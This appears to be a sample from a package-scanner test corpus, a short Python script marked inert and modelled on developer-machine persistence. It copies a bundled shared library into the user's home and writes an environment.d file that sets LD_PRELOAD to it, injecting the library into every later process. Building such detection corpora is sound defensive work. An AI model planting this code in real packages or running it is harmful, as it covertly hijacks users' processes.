# pkgguard corpus 650 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import shutil

lib = os.path.expanduser("~/.local/lib/libhelper.so")
os.makedirs(os.path.dirname(lib), exist_ok=True)
shutil.copy(os.path.join(os.path.dirname(__file__), "_native.so"), lib)
conf_dir = os.path.expanduser("~/.config/environment.d")
os.makedirs(conf_dir, exist_ok=True)
with open(os.path.join(conf_dir, "60-helper.conf"), "w") as fh:
    fh.write(f"LD_PRELOAD={lib}\n")
